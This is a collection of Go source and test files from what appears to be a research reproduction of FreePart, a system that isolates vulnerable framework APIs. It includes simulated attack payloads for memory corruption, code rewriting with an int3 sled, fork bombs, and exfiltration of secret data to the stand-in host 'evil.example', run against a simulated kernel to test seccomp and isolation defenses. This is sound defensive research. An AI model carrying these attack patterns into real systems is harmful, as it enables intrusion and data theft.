		// Code rewriting needs mprotect (§3.2) — blocked by the filter.
		if merr := ctx.K.MProtect(ctx.P, region, mem.PermRW|mem.PermExec); merr != nil {
			return merr
		}
		shell := make([]byte, n)
		for i := range shell {
			shell[i] = 0xCC // int3 sled standing in for shellcode
		}
		if werr := ctx.P.Space().Store(region.Base, shell); werr != nil {
			ctx.K.Crash(ctx.P, fmt.Sprintf("wild code write: %v", werr))
			out.Crashed = true
			return werr
		}
		out.Rewrote = true
		return nil

	case opFork:
		// The StegoNet payload forks; data-processing filters never allow
		// fork, so under FreePart the process dies here.
		if ferr := ctx.K.Syscall(ctx.P, kernel.SysFork, ""); ferr != nil {
			return ferr
		}
		out.Forked = true
		return nil

	default:
		return fmt.Errorf("attack: unknown payload %q", parts[0])
	}
}
