package attack

import (
	"fmt"
	"math/rand"

	"freepart.dev/freepart/internal/framework"
)

// StudyApp is one application in the §4.1 56-program study: its observed
// phase pattern (Fig. 6) and how many vulnerable APIs of each framework ×
// type it uses (Table 3).
type StudyApp struct {
	ID         int
	Name       string
	Frameworks []string
	// Pattern is the observed phase sequence: every studied program
	// follows load → process → (visualize|store), some looping.
	Pattern []framework.APIType
	Loops   bool
	// VulnAPIs maps framework → API type → count of vulnerable APIs used.
	VulnAPIs map[string]map[framework.APIType]int
}

// FollowsPipeline reports whether the app's phases respect the canonical
// ordering: loading before processing before visualizing/storing within
// each iteration (Fig. 6's claim holds for all 56).
func (s StudyApp) FollowsPipeline() bool {
	rank := map[framework.APIType]int{
		framework.TypeLoading:     0,
		framework.TypeProcessing:  1,
		framework.TypeVisualizing: 2,
		framework.TypeStoring:     2,
	}
	prev := -1
	for _, t := range s.Pattern {
		r := rank[t]
		if r < prev {
			// A drop back to loading is a loop iteration, allowed only
			// for looping programs.
			if r == 0 && s.Loops {
				prev = 0
				continue
			}
			return false
		}
		prev = r
	}
	return true
}

// Study56 synthesizes the 56-application study corpus deterministically.
// Framework popularity and vulnerable-API usage intensities mirror the
// paper's aggregate findings (Table 3: loading/processing dominate, a
// single app uses at most a handful of vulnerable APIs).
func Study56() []StudyApp {
	rng := rand.New(rand.NewSource(56))
	fws := []string{"OpenCV", "TensorFlow", "Pillow", "NumPy"}
	apps := make([]StudyApp, 0, 56)
	for i := 1; i <= 56; i++ {
		app := StudyApp{
			ID:       i,
			Name:     fmt.Sprintf("study-app-%02d", i),
			Loops:    rng.Intn(3) == 0, // video-style programs repeat
			VulnAPIs: make(map[string]map[framework.APIType]int),
		}
		// 1-2 frameworks per app.
		app.Frameworks = []string{fws[rng.Intn(len(fws))]}
		if rng.Intn(4) == 0 {
			other := fws[rng.Intn(len(fws))]
			if other != app.Frameworks[0] {
				app.Frameworks = append(app.Frameworks, other)
			}
		}
		// Phase pattern.
		base := []framework.APIType{framework.TypeLoading, framework.TypeProcessing}
		if rng.Intn(5) > 0 { // most programs present or store results
			if rng.Intn(2) == 0 {
				base = append(base, framework.TypeVisualizing)
			} else {
				base = append(base, framework.TypeStoring)
			}
		}
		app.Pattern = append(app.Pattern, base...)
		if app.Loops {
			app.Pattern = append(app.Pattern, base...)
		}
		// Vulnerable API usage: a handful per app, concentrated in
		// loading/processing (§4.1 study 2).
		for _, fw := range app.Frameworks {
			use := map[framework.APIType]int{}
			use[framework.TypeLoading] = rng.Intn(2)
			use[framework.TypeProcessing] = rng.Intn(4)
			if fw == "TensorFlow" && rng.Intn(5) == 0 {
				use[framework.TypeProcessing] += rng.Intn(9) // optimizer-heavy outliers
			}
			if fw == "Pillow" && rng.Intn(3) == 0 {
				use[framework.TypeVisualizing] = 1
			}
			app.VulnAPIs[fw] = use
		}
		apps = append(apps, app)
	}
	return apps
}

// Table3Row is one row of the Table 3 aggregate.
type Table3Row struct {
	Framework string
	Avg       map[framework.APIType]float64 // avg vulnerable APIs per app
	Max       map[framework.APIType]int     // max in a single app
	Total     map[framework.APIType]int     // total across apps
}

// Table3 aggregates the study corpus into per-framework rows.
func Table3(apps []StudyApp) []Table3Row {
	order := []string{"OpenCV", "TensorFlow", "Pillow", "NumPy"}
	rows := make([]Table3Row, 0, len(order)+1)
	types := framework.ConcreteTypes()
	totalRow := Table3Row{Framework: "Total",
		Avg: map[framework.APIType]float64{}, Max: map[framework.APIType]int{}, Total: map[framework.APIType]int{}}
	for _, fw := range order {
		row := Table3Row{Framework: fw,
			Avg: map[framework.APIType]float64{}, Max: map[framework.APIType]int{}, Total: map[framework.APIType]int{}}
		for _, t := range types {
			sum := 0
			for _, app := range apps {
				n := app.VulnAPIs[fw][t]
				sum += n
				if n > row.Max[t] {
					row.Max[t] = n
				}
			}
			row.Total[t] = sum
			row.Avg[t] = float64(sum) / float64(len(apps))
		}
		rows = append(rows, row)
	}
	// Totals: per-app sums across frameworks.
	for _, t := range types {
		sum, max := 0, 0
		for _, app := range apps {
			n := 0
			for _, use := range app.VulnAPIs {
				n += use[t]
			}
			sum += n
			if n > max {
				max = n
			}
		}
		totalRow.Total[t] = sum
		totalRow.Max[t] = max
		totalRow.Avg[t] = float64(sum) / float64(len(apps))
	}
	return append(rows, totalRow)
}
