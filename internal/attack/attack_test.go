package attack_test

import (
	"errors"
	"testing"

	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
)

// victim spawns a process with the attack log's handler installed and a
// critical region holding known bytes.
func victim(t *testing.T, log *attack.Log) (*kernel.Kernel, *framework.Ctx, mem.Region) {
	t.Helper()
	k := kernel.New()
	p := k.Spawn("victim")
	ctx := framework.NewCtx(k, p)
	ctx.OnExploit = log.Handler()
	crit, err := p.Space().Alloc(64)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Space().Store(crit.Base, []byte("secret-data")); err != nil {
		t.Fatal(err)
	}
	return k, ctx, crit
}

// fire runs imread on a crafted file.
func fire(t *testing.T, k *kernel.Kernel, ctx *framework.Ctx, crafted []byte) error {
	t.Helper()
	k.FS.WriteFile("/evil.img", crafted)
	reg := all.Registry()
	_, err := reg.MustGet("cv.imread").Exec(ctx, []framework.Value{framework.Str("/evil.img")})
	return err
}

func TestCorruptPayloadSameProcess(t *testing.T) {
	log := &attack.Log{}
	k, ctx, crit := victim(t, log)
	err := fire(t, k, ctx, attack.Corrupt("CVE-2017-12597", crit.Base, []byte("OWNED")))
	if !errors.Is(err, framework.ErrExploited) {
		t.Fatalf("err = %v", err)
	}
	out := log.Last()
	if !out.Fired || !out.Corrupted || out.Crashed {
		t.Fatalf("outcome = %+v", out)
	}
	got, _ := ctx.P.Space().Load(crit.Base, 5)
	if string(got) != "OWNED" {
		t.Fatalf("critical data = %q", got)
	}
}

func TestCorruptPayloadWrongAddressCrashes(t *testing.T) {
	log := &attack.Log{}
	k, ctx, _ := victim(t, log)
	// Target an unmapped address: the wild write segfaults the process.
	err := fire(t, k, ctx, attack.Corrupt("CVE-2017-12597", mem.Addr(0x40000000), []byte{1}))
	if err == nil {
		t.Fatal("expected error")
	}
	out := log.Last()
	if out.Corrupted || !out.Crashed {
		t.Fatalf("outcome = %+v", out)
	}
	if ctx.P.Alive() {
		t.Fatal("wild write should crash the process")
	}
}

func TestCorruptPayloadReadOnlyTargetBlocked(t *testing.T) {
	log := &attack.Log{}
	k, ctx, crit := victim(t, log)
	if _, err := ctx.P.Space().ProtectRegion(crit, mem.PermRead); err != nil {
		t.Fatal(err)
	}
	_ = fire(t, k, ctx, attack.Corrupt("CVE-2017-12597", crit.Base, []byte("OWNED")))
	out := log.Last()
	if out.Corrupted {
		t.Fatal("read-only target must not be corrupted")
	}
	got, _ := ctx.P.Space().Load(crit.Base, 6)
	if string(got) != "secret" {
		t.Fatal("data changed despite protection")
	}
}

func TestExfilPayloadUnrestricted(t *testing.T) {
	log := &attack.Log{}
	k, ctx, crit := victim(t, log)
	err := fire(t, k, ctx, attack.Exfiltrate("CVE-2017-12597", crit.Base, 11, "evil.example"))
	if !errors.Is(err, framework.ErrExploited) {
		t.Fatalf("err = %v", err)
	}
	out := log.Last()
	if string(out.Leaked) != "secret-data" {
		t.Fatalf("leaked = %q", out.Leaked)
	}
	if len(k.Net.SentTo("evil.example")) != 1 {
		t.Fatal("exfiltrated bytes should be on the wire")
	}
}

func TestExfilPayloadBlockedBySeccomp(t *testing.T) {
	log := &attack.Log{}
	k, ctx, crit := victim(t, log)
	// Loading-agent-style filter: file syscalls only.
	f := ctx.P.Filter()
	_ = f.Allow(kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysLseek, kernel.SysClose, kernel.SysBrk)
	f.Install(kernel.ActionKill)
	err := fire(t, k, ctx, attack.Exfiltrate("CVE-2017-12597", crit.Base, 11, "evil.example"))
	if err == nil {
		t.Fatal("expected error")
	}
	out := log.Last()
	if out.Leaked != nil {
		t.Fatal("nothing must leak")
	}
	if len(k.Net.Sent()) != 0 {
		t.Fatal("no bytes may reach the network")
	}
	if ctx.P.Alive() {
		t.Fatal("socket attempt should kill the process")
	}
}

func TestDoSPayload(t *testing.T) {
	log := &attack.Log{}
	k, ctx, _ := victim(t, log)
	_ = fire(t, k, ctx, attack.DoS("CVE-2017-14136"))
	if !log.Last().Crashed || ctx.P.Alive() {
		t.Fatal("DoS should crash the process")
	}
}

func TestCodeRewritePayload(t *testing.T) {
	log := &attack.Log{}
	k, ctx, _ := victim(t, log)
	// A code region (r-x) in the same process.
	code, _ := ctx.P.Space().Alloc(mem.PageSize)
	_, _ = ctx.P.Space().ProtectRegion(code, mem.PermRead|mem.PermExec)
	err := fire(t, k, ctx, attack.CodeRewrite("CVE-2017-17760", code.Base, 16))
	if !errors.Is(err, framework.ErrExploited) {
		t.Fatalf("err = %v", err)
	}
	if !log.Last().Rewrote {
		t.Fatalf("outcome = %+v", log.Last())
	}
	got, _ := ctx.P.Space().Load(code.Base, 1)
	if got[0] != 0xCC {
		t.Fatal("code should be overwritten without a filter")
	}
}

func TestCodeRewriteBlockedByMprotectDenial(t *testing.T) {
	log := &attack.Log{}
	k, ctx, _ := victim(t, log)
	code, _ := ctx.P.Space().Alloc(mem.PageSize)
	_, _ = ctx.P.Space().ProtectRegion(code, mem.PermRead|mem.PermExec)
	f := ctx.P.Filter()
	_ = f.Allow(kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysLseek, kernel.SysClose, kernel.SysBrk)
	f.Install(kernel.ActionKill)
	_ = fire(t, k, ctx, attack.CodeRewrite("CVE-2017-17760", code.Base, 16))
	if log.Last().Rewrote {
		t.Fatal("mprotect denial must stop the rewrite")
	}
	got, _ := ctx.P.Space().Load(code.Base, 1)
	if got[0] == 0xCC {
		t.Fatal("code must be intact")
	}
}

func TestForkBombBlocked(t *testing.T) {
	log := &attack.Log{}
	k, ctx, _ := victim(t, log)
	f := ctx.P.Filter()
	_ = f.Allow(kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysLseek, kernel.SysClose, kernel.SysBrk)
	f.Install(kernel.ActionKill)
	_ = fire(t, k, ctx, attack.ForkBomb("CVE-2017-12597"))
	if log.Last().Forked {
		t.Fatal("fork must be denied")
	}
	if ctx.P.Alive() {
		t.Fatal("fork attempt should kill the process")
	}
}

func TestEvalCVEsMatchTable5(t *testing.T) {
	cves := attack.EvalCVEs()
	if len(cves) != 18 {
		t.Fatalf("%d CVEs, want 18", len(cves))
	}
	reg := all.Registry()
	byClass := map[attack.VulnClass]int{}
	for _, c := range cves {
		byClass[c.Class]++
		if c.API == "" {
			t.Errorf("%s has no API site", c.ID)
			continue
		}
		api := reg.MustGet(c.API)
		if !api.HasCVE(c.ID) {
			t.Errorf("%s not wired into %s", c.ID, c.API)
		}
	}
	// Table 5 shape: 4 memory-write, 3 RCE, 10 DoS, 1 memory-read.
	if byClass[attack.ClassMemWrite] != 4 || byClass[attack.ClassRCE] != 3 || byClass[attack.ClassDoS] != 10 {
		t.Fatalf("class distribution = %v", byClass)
	}
	if _, ok := attack.EvalCVEByID("CVE-2017-12597"); !ok {
		t.Fatal("lookup failed")
	}
	if _, ok := attack.EvalCVEByID("CVE-0000-0000"); ok {
		t.Fatal("bogus lookup should fail")
	}
}

func TestStudyCorpusShape(t *testing.T) {
	corpus := attack.StudyCorpus()
	if len(corpus) != 241 {
		t.Fatalf("corpus = %d CVEs, want 241", len(corpus))
	}
	byFW := attack.CorpusByFramework(corpus)
	if byFW["TensorFlow"] != 172 || byFW["Pillow"] != 44 || byFW["OpenCV"] != 22 || byFW["NumPy"] != 3 {
		t.Fatalf("per-framework = %v", byFW)
	}
	tab := attack.CorpusByTypeAndClass(corpus)
	// All four API types carry vulnerabilities; loading+processing dominate.
	var dl, dp, rest int
	for ty, classes := range tab {
		n := 0
		for _, c := range classes {
			n += c
		}
		switch ty {
		case framework.TypeLoading:
			dl = n
		case framework.TypeProcessing:
			dp = n
		default:
			rest += n
		}
	}
	if dl+dp < rest*5 {
		t.Fatalf("loading+processing (%d) should dominate others (%d)", dl+dp, rest)
	}
	if len(tab) != 4 {
		t.Fatalf("types covered = %d, want 4", len(tab))
	}
	if fw := attack.Frameworks(corpus); len(fw) != 4 {
		t.Fatalf("frameworks = %v", fw)
	}
}

func TestStudy56Pipeline(t *testing.T) {
	apps := attack.Study56()
	if len(apps) != 56 {
		t.Fatalf("%d apps", len(apps))
	}
	for _, app := range apps {
		if !app.FollowsPipeline() {
			t.Errorf("%s violates the pipeline pattern: %v", app.Name, app.Pattern)
		}
	}
	// Determinism.
	again := attack.Study56()
	for i := range apps {
		if apps[i].Name != again[i].Name || apps[i].Loops != again[i].Loops {
			t.Fatal("study corpus must be deterministic")
		}
	}
}

func TestTable3Aggregate(t *testing.T) {
	rows := attack.Table3(attack.Study56())
	if len(rows) != 5 || rows[4].Framework != "Total" {
		t.Fatalf("rows = %d", len(rows))
	}
	total := rows[4]
	// Loading+processing dominate; storing is rare (Table 3's zero row).
	if total.Total[framework.TypeProcessing] <= total.Total[framework.TypeStoring] {
		t.Fatal("processing should dominate storing")
	}
	if total.Avg[framework.TypeProcessing] <= 0 {
		t.Fatal("processing average should be positive")
	}
	// Per-app vulnerable APIs stay small (the isolation argument of §4.1).
	if total.Max[framework.TypeLoading] > 6 {
		t.Fatalf("max loading vuln APIs = %d, implausibly high", total.Max[framework.TypeLoading])
	}
}

func TestMalformedPayloads(t *testing.T) {
	log := &attack.Log{}
	k, ctx, _ := victim(t, log)
	for _, crafted := range [][]byte{
		framework.Trigger("CVE-2017-12597", []byte("corrupt:bad")),
		framework.Trigger("CVE-2017-12597", []byte("exfil:1:2")),
		framework.Trigger("CVE-2017-12597", []byte("rewrite:xyz:2")),
		framework.Trigger("CVE-2017-12597", []byte("unknownop")),
	} {
		if err := fire(t, k, ctx, crafted); err == nil {
			t.Error("malformed payload should error")
		}
		if out := log.Last(); out.Corrupted || out.Leaked != nil || out.Rewrote {
			t.Errorf("malformed payload had effects: %+v", out)
		}
	}
}
