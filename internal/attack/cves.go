package attack

import (
	"sort"
	"sync"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/isolation"
)

// VulnClass is a vulnerability category (Fig. 7's legend).
type VulnClass uint8

// Vulnerability classes.
const (
	ClassMemWrite VulnClass = iota // unauthorized memory write
	ClassMemRead                   // unauthorized memory read
	ClassDoS                       // denial of service
	ClassFileRead                  // unauthorized file read
	ClassRCE                       // remote code execution
)

// String names the class as the paper's legend does.
func (c VulnClass) String() string {
	switch c {
	case ClassMemWrite:
		return "Unauthorized memory write"
	case ClassMemRead:
		return "Unauthorized memory read"
	case ClassDoS:
		return "DoS (Denial of Service)"
	case ClassFileRead:
		return "Unauthorized file read"
	case ClassRCE:
		return "Remote Code Execution"
	default:
		return "unknown"
	}
}

// CVE describes one vulnerability.
type CVE struct {
	ID        string
	Framework string
	Class     VulnClass
	// APIType is the task category whose APIs host the vulnerability.
	APIType framework.APIType
	// API names the vulnerable API in the simulated frameworks (empty for
	// study-corpus entries that are not implemented as live CVE sites).
	API string
	// Samples lists affected evaluation application ids (Table 5).
	Samples []int
}

// EvalCVEs returns the 18 CVEs reproduced for the evaluation (Table 5),
// wired to live vulnerability sites in the simulated frameworks.
func EvalCVEs() []CVE {
	return []CVE{
		{ID: "CVE-2017-12604", Framework: "OpenCV", Class: ClassMemWrite, APIType: framework.TypeLoading, API: "cv.cvLoad", Samples: []int{1, 9, 10, 12}},
		{ID: "CVE-2017-12605", Framework: "OpenCV", Class: ClassMemWrite, APIType: framework.TypeLoading, API: "cv.VideoCapture.read", Samples: []int{1, 9, 10, 12}},
		{ID: "CVE-2017-12606", Framework: "OpenCV", Class: ClassMemWrite, APIType: framework.TypeLoading, API: "cv.imread", Samples: []int{1, 9, 10, 12}},
		{ID: "CVE-2017-12597", Framework: "OpenCV", Class: ClassMemWrite, APIType: framework.TypeLoading, API: "cv.imread", Samples: []int{1, 8, 9, 10, 12}},
		{ID: "CVE-2017-17760", Framework: "OpenCV", Class: ClassRCE, APIType: framework.TypeLoading, API: "cv.imread", Samples: []int{1, 7, 10, 12}},
		{ID: "CVE-2019-5063", Framework: "OpenCV", Class: ClassRCE, APIType: framework.TypeProcessing, API: "cv.CascadeClassifier.detectMultiScale", Samples: []int{1, 9, 10}},
		{ID: "CVE-2019-5064", Framework: "OpenCV", Class: ClassRCE, APIType: framework.TypeProcessing, API: "cv.warpPerspective", Samples: []int{1, 9, 10}},
		{ID: "CVE-2017-14136", Framework: "OpenCV", Class: ClassDoS, APIType: framework.TypeLoading, API: "cv.imread", Samples: []int{1, 7, 9, 10, 12}},
		{ID: "CVE-2018-5269", Framework: "OpenCV", Class: ClassDoS, APIType: framework.TypeLoading, API: "cv.VideoCapture.read", Samples: []int{1, 7, 9, 10, 12}},
		{ID: "CVE-2019-14491", Framework: "OpenCV", Class: ClassDoS, APIType: framework.TypeProcessing, API: "cv.CascadeClassifier.detectMultiScale", Samples: []int{1, 9, 10}},
		{ID: "CVE-2019-14492", Framework: "OpenCV", Class: ClassDoS, APIType: framework.TypeProcessing, API: "cv.equalizeHist", Samples: []int{1, 9, 10}},
		{ID: "CVE-2019-14493", Framework: "OpenCV", Class: ClassDoS, APIType: framework.TypeProcessing, API: "cv.findContours", Samples: []int{1, 9, 10}},
		{ID: "CVE-2021-29513", Framework: "TensorFlow", Class: ClassDoS, APIType: framework.TypeProcessing, API: "tf.nn.conv3d", Samples: []int{21, 23}},
		{ID: "CVE-2021-29618", Framework: "TensorFlow", Class: ClassDoS, APIType: framework.TypeProcessing, API: "tf.nn.avg_pool", Samples: []int{23}},
		{ID: "CVE-2021-37661", Framework: "TensorFlow", Class: ClassDoS, APIType: framework.TypeProcessing, API: "tf.nn.max_pool", Samples: []int{21, 22, 23}},
		{ID: "CVE-2021-41198", Framework: "TensorFlow", Class: ClassDoS, APIType: framework.TypeProcessing, API: "tf.matmul", Samples: []int{20, 22}},
		{ID: "CVE-2019-15939", Framework: "OpenCV", Class: ClassDoS, APIType: framework.TypeVisualizing, API: "cv.imshow", Samples: []int{8}},
		{ID: "CVE-2020-10378", Framework: "Pillow", Class: ClassMemRead, APIType: framework.TypeLoading, API: "cv.imread", Samples: []int{3}},
	}
}

// evalIndex memoizes the id → CVE map: EvalCVEByID runs inside replay
// loops (18 CVEs × policies × samples), so rebuilding and rescanning the
// slice per lookup is pure waste.
var evalIndex struct {
	once sync.Once
	byID map[string]CVE
}

// EvalCVEByID looks up an evaluation CVE.
func EvalCVEByID(id string) (CVE, bool) {
	evalIndex.once.Do(func() {
		evalIndex.byID = make(map[string]CVE)
		for _, c := range EvalCVEs() {
			evalIndex.byID[c.ID] = c
		}
	})
	c, ok := evalIndex.byID[id]
	return c, ok
}

// BlockedBy reports whether an isolation tier contains this vulnerability
// class — the per-tier blocked semantics behind the frontier matrix.
//
//   - TierProcess (paper): a separate address space stops wild reads and
//     writes, seccomp stops code-rewrite mprotect and fork bombs, and the
//     supervisor restarts a crashed agent — every class is contained.
//   - TierDomain (ERIM-style MPK): the PKRU narrows on entry, so
//     cross-domain memory reads and writes fault deterministically. But
//     the domain shares the host's process: a crash is the host's crash
//     (DoS unblocked), and with no per-domain seccomp an mprotect-based
//     code rewrite or fork bomb proceeds (RCE/file-read unblocked).
//   - TierHost: nothing is blocked.
func (c VulnClass) BlockedBy(t isolation.Tier) bool {
	switch t {
	case isolation.TierProcess:
		return true
	case isolation.TierDomain:
		return c == ClassMemWrite || c == ClassMemRead
	default:
		return false
	}
}

// RequiredTier returns the weakest isolation tier that contains this
// vulnerability class — the escalation target the defense controller
// jumps to on a sighting. Memory reads and writes fault under the MPK
// domain's protection keys, so TierDomain suffices; everything else
// (DoS, RCE, file read, fork bombs) needs the separate address space,
// seccomp filter, and restartable fate of TierProcess.
func (c VulnClass) RequiredTier() isolation.Tier {
	if c.BlockedBy(isolation.TierDomain) {
		return isolation.TierDomain
	}
	return isolation.TierProcess
}

// studyProfile describes one framework's CVE distribution in the §4.1
// study 2 corpus (241 CVEs, Aug 2018 – Feb 2022): counts per API type and
// the class mix within each type. The totals (172/44/22/3) come from the
// paper; the per-type split reconstructs Fig. 7's shape (vulnerabilities
// concentrated in loading and processing, all four types represented).
type studyProfile struct {
	framework string
	perType   map[framework.APIType]int
	classes   []VulnClass // cycled deterministically across entries
}

func studyProfiles() []studyProfile {
	return []studyProfile{
		{
			framework: "TensorFlow",
			perType: map[framework.APIType]int{
				framework.TypeLoading:     54,
				framework.TypeProcessing:  111,
				framework.TypeStoring:     6,
				framework.TypeVisualizing: 1,
			},
			classes: []VulnClass{ClassDoS, ClassDoS, ClassMemRead, ClassDoS, ClassMemWrite},
		},
		{
			framework: "Pillow",
			perType: map[framework.APIType]int{
				framework.TypeLoading:     30,
				framework.TypeProcessing:  9,
				framework.TypeVisualizing: 4,
				framework.TypeStoring:     1,
			},
			classes: []VulnClass{ClassDoS, ClassMemRead, ClassMemWrite, ClassDoS},
		},
		{
			framework: "OpenCV",
			perType: map[framework.APIType]int{
				framework.TypeLoading:     11,
				framework.TypeProcessing:  8,
				framework.TypeVisualizing: 2,
				framework.TypeStoring:     1,
			},
			classes: []VulnClass{ClassMemWrite, ClassDoS, ClassMemRead, ClassFileRead},
		},
		{
			framework: "NumPy",
			perType: map[framework.APIType]int{
				framework.TypeLoading:    1,
				framework.TypeProcessing: 2,
			},
			classes: []VulnClass{ClassDoS, ClassMemWrite},
		},
	}
}

// StudyCorpus synthesizes the 241-CVE study corpus deterministically.
func StudyCorpus() []CVE {
	var out []CVE
	n := 0
	for _, p := range studyProfiles() {
		types := []framework.APIType{
			framework.TypeLoading, framework.TypeProcessing,
			framework.TypeVisualizing, framework.TypeStoring,
		}
		for _, t := range types {
			for i := 0; i < p.perType[t]; i++ {
				out = append(out, CVE{
					ID:        studyID(p.framework, n),
					Framework: p.framework,
					Class:     p.classes[n%len(p.classes)],
					APIType:   t,
				})
				n++
			}
		}
	}
	return out
}

// studyID derives a stable synthetic id.
func studyID(fw string, n int) string {
	return "STUDY-" + fw + "-" + itoa(n)
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b [8]byte
	i := len(b)
	for n > 0 {
		i--
		b[i] = byte('0' + n%10)
		n /= 10
	}
	return string(b[i:])
}

// CorpusByTypeAndClass tabulates the study corpus for Fig. 7.
func CorpusByTypeAndClass(corpus []CVE) map[framework.APIType]map[VulnClass]int {
	out := make(map[framework.APIType]map[VulnClass]int)
	for _, c := range corpus {
		if out[c.APIType] == nil {
			out[c.APIType] = make(map[VulnClass]int)
		}
		out[c.APIType][c.Class]++
	}
	return out
}

// CorpusByFramework tabulates CVE counts per framework.
func CorpusByFramework(corpus []CVE) map[string]int {
	out := make(map[string]int)
	for _, c := range corpus {
		out[c.Framework]++
	}
	return out
}

// Frameworks lists the distinct frameworks in a corpus, sorted.
func Frameworks(corpus []CVE) []string {
	set := make(map[string]bool)
	for _, c := range corpus {
		set[c.Framework] = true
	}
	out := make([]string, 0, len(set))
	for f := range set {
		out = append(out, f)
	}
	sort.Strings(out)
	return out
}
