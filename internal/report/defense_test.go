package report

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/isolation"
	"freepart.dev/freepart/internal/metrics"
	"freepart.dev/freepart/internal/vclock"
)

// poolFingerprint is everything a serving run leaves behind that the
// zero-cost guard compares: the merged critical path, each shard's final
// clock, each shard runtime's full metrics snapshot, and the served count.
type poolFingerprint struct {
	Critical vclock.Duration
	Clocks   []vclock.Duration
	Metrics  []metrics.Snapshot
	Served   int
}

// serveFingerprint provisions the detection service on an executor built
// from factory, serves the standard request stream, and returns the
// fingerprint.
func serveFingerprint(t *testing.T, factory core.ShardFactory) poolFingerprint {
	t.Helper()
	ex, err := core.NewExecutor(4, factory)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	srv, err := apps.ProvisionDetection(ex)
	if err != nil {
		t.Fatal(err)
	}
	results := srv.Serve(apps.GenDetectionRequests(7, 24))
	fp := poolFingerprint{Critical: ex.CriticalPath(), Served: apps.Served(results)}
	for i := 0; i < ex.Shards(); i++ {
		sh := ex.Shard(i)
		fp.Clocks = append(fp.Clocks, sh.Clock().Now())
		if sh.Rt != nil {
			fp.Metrics = append(fp.Metrics, sh.Rt.Metrics.Snapshot())
		}
	}
	return fp
}

// TestDefenseZeroCost pins the tentpole's zero-cost guarantee: a
// DynamicShards factory whose configuration closure always returns the
// same static configuration builds pools indistinguishable — clocks,
// metrics, results — from ProtectedShards over that configuration, for
// every isolation preset. Deploying the re-bind machinery without an
// active controller costs nothing.
func TestDefenseZeroCost(t *testing.T) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	for _, pol := range isolation.Presets() {
		pol := pol
		t.Run(pol.Name, func(t *testing.T) {
			cfg := core.ConfigForIsolation(pol)
			static := serveFingerprint(t, core.ProtectedShards(reg, cat, cfg))
			dynamic := serveFingerprint(t, core.DynamicShards(reg, cat, func() core.Config { return cfg }, nil))
			if static.Served != 24 {
				t.Fatalf("static pool served %d/24", static.Served)
			}
			if !reflect.DeepEqual(static, dynamic) {
				t.Fatalf("dynamic pool with static config diverged from ProtectedShards:\nstatic:  %+v\ndynamic: %+v", static, dynamic)
			}
		})
	}
}

// TestMeasureDefense runs the full campaign at drill scale and checks the
// headline invariants: the adaptive row blocks at least as much of the
// main wave as the strongest static row while paying strictly less steady
// overhead than the paper preset, annealing all the way back to its
// floor, and every row keeps serving its full legitimate load.
func TestMeasureDefense(t *testing.T) {
	if testing.Short() {
		t.Skip("full defense campaign in -short mode")
	}
	rows, err := MeasureDefense(4, 32)
	if err != nil {
		t.Fatal(err)
	}
	byName := map[string]DefenseResult{}
	for _, r := range rows {
		byName[r.Policy] = r
		if r.Served != r.Requests {
			t.Errorf("%s: served %d/%d legitimate requests", r.Policy, r.Served, r.Requests)
		}
		if !r.AtFloor {
			t.Errorf("%s: campaign did not end at its floor policy", r.Policy)
		}
	}
	ad, ok := byName["adaptive"]
	if !ok {
		t.Fatal("no adaptive row")
	}
	paper, tiered := byName["paper"], byName["tiered"]
	if ad.Blocked < tiered.Blocked || ad.Blocked != ad.Total {
		t.Errorf("adaptive blocked %d/%d (tiered %d/%d); want full containment after first sighting",
			ad.Blocked, ad.Total, tiered.Blocked, tiered.Total)
	}
	if ad.Screened == 0 || ad.Escalations == 0 || ad.Anneals == 0 || ad.Quarantines != 1 || ad.Releases != 1 {
		t.Errorf("adaptive controller idle: %+v", ad)
	}
	if ad.OffenderRejected != ad.OffenderAttempts || ad.OffenderAttempts == 0 {
		t.Errorf("quarantine gate rejected %d/%d offender attempts", ad.OffenderRejected, ad.OffenderAttempts)
	}
	if ad.WatchdogTrips == 0 {
		t.Error("DoS resource watchdog never tripped on the adaptive row")
	}
	if ad.SteadyOverheadPct >= paper.SteadyOverheadPct {
		t.Errorf("adaptive steady overhead %+.2f%% not below paper %+.2f%%",
			ad.SteadyOverheadPct, paper.SteadyOverheadPct)
	}
	for _, r := range rows {
		if r.Adaptive {
			continue
		}
		if r.Sightings != 0 || r.Rebinds != 0 || r.Screened != 0 {
			t.Errorf("static row %s shows controller activity: %+v", r.Policy, r)
		}
	}
}

func TestWriteDefenseJSON(t *testing.T) {
	path := filepath.Join(t.TempDir(), "BENCH_defense.json")
	rows := []DefenseResult{{Policy: "adaptive", Adaptive: true, Blocked: 18, Total: 18}}
	if err := WriteDefenseJSON(path, rows); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"policy": "adaptive"`, `"blocked": 18`} {
		if !strings.Contains(string(b), want) {
			t.Fatalf("JSON missing %q:\n%s", want, b)
		}
	}
}
