package report

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

// TestPartitionFrontier pins the tentpole's headline ordering on a small
// configuration: key-aware placement lands returning users warm (a
// materially higher warm-hit ratio than round-robin) and keeps the tail
// below round-robin's cold-inflated queueing; the hot-range melt blows the
// tail up; the mid-window rebalance drill sheds it — without changing a
// single served byte.
func TestPartitionFrontier(t *testing.T) {
	rows, err := MeasurePartition(4, 2000, 1500, 1.2)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 {
		t.Fatalf("got %d rows, want 5", len(rows))
	}
	rr, aware, melt, rebal := rows[0], rows[2], rows[3], rows[4]

	for _, r := range rows {
		if r.Served != r.Visits {
			t.Fatalf("%s: served %d/%d — nothing may fail on a direct pool", r.Scenario, r.Served, r.Visits)
		}
